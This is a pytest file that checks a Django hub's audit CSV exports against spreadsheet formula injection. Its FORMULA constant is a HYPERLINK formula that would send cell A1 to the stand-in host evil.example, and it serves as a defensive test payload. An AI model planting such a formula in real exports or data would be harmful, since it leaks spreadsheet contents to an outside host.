"""Every CSV the hub writes defuses cells a spreadsheet would run as a formula."""

import csv
import io
import re
from pathlib import Path

import pytest

from audit.actors import Actor
from audit.models import AuditEvent
from audit.services import audit_record
from core.csvsafe import csv_cell
from tests.factories import make_staff

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["ordinary text", "a=b", "", -5, 3.5, None])
def test_other_cells_and_numbers_are_left_as_they_are(value):
    assert csv_cell(value) == value


def _audit_with_formula() -> None:
    audit_record(
        actor=Actor.system("tests"),
        action="access.subject.unmask",
        object_type="profiles.subject",
        object_id="x",
        reason=FORMULA,
    )


def _reasons(text: str) -> list[str]:
    return [row["reason"] for row in csv.DictReader(io.StringIO(text))]


def test_the_audit_csv_of_the_api_defuses_a_formula(client, roles):
    _audit_with_formula()
    client.force_login(make_staff("Auditor"))
    response = client.get("/api/v1/audit/events.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert "'" + FORMULA in _reasons(text)
    assert FORMULA not in _reasons(text)


def test_the_audit_csv_export_action_of_the_admin_defuses_a_formula(client, roles):
    _audit_with_formula()
    client.force_login(make_staff("Auditor"))
    event = AuditEvent.objects.get(action="access.subject.unmask")
    response = client.post(
        "/admin/audit/auditevent/",
        {"action": "export_csv", "_selected_action": [event.pk]},
    )
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert _reasons(text) == ["'" + FORMULA]


def test_every_csv_of_the_hub_is_written_through_the_one_safe_writer():
    # A module that makes its own csv.writer would skip the defusing of header and cells.
    root = Path(__file__).resolve().parents[2]
    apps = [p for p in root.iterdir() if (p / "apps.py").exists() or p.name == "core"]
    makers = re.compile(r"\bcsv\.(writer|DictWriter)\b")
    found = [
        str(path.relative_to(root))
        for app in apps
        for path in app.rglob("*.py")
        if makers.search(path.read_text()) and path != root / "core" / "csvsafe.py"
    ]
    assert len(apps) >= 8
    assert found == []
